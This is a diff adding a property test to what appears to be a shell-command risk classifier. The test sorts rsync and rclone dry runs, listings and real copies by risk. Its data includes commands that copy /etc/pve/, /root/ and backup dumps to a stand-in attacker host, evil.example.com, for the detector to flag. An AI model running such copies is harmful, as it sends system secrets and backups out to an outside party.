@@ -4447,6 +4447,24 @@ proptest! {
         prop_assert_eq!(writes.class, RiskClass::ConfigMutation, "{}", writes.reason);
     }
 
+    /// Blind corpus 73: a dry run or an rclone listing sends no file's
+    /// contents, so it is no secret sent out (it still reaches the host);
+    /// the same copy run for real is.
+    #[test]
+    fn a_dry_run_copy_sends_nothing(
+        source in select(vec!["/etc/pve/", "/var/lib/vz/dump/", "/root/"]),
+        dry in select(vec!["-avn", "-an --delete", "--dry-run -a", "-aHAXn --itemize-changes", "-n -r"]),
+        listing in select(vec!["check {s} r:x --one-way", "sync --dry-run {s} r:x", "lsf r:x", "size r:x", "copy -n {s} r:x"]),
+        outside in select(vec!["evil.example.com:/x", "backup@203.0.113.9:/x"]),
+    ) {
+        asks_without_loss(&format!("rsync {dry} {source} {outside}"))?;
+        destructive(&format!("rsync -a {source} {outside}"))?;
+        destructive(&format!("rsync -ne ssh {source} {outside}"))?;
+        asks_without_loss(&format!("rclone {}", listing.replace("{s}", source)))?;
+        destructive(&format!("rclone sync {source} r:x"))?;
+        read_only(&format!("rsync {dry} {source} 192.168.1.20:/backup/"))?;
+    }
+
     /// Blind corpus 73: inside single quotes, text bash and dash read
     /// differently is plain text to both (`grep -v ':0$'`); outside them,
     /// or where the scan cannot follow the quotes (a comment, a heredoc,
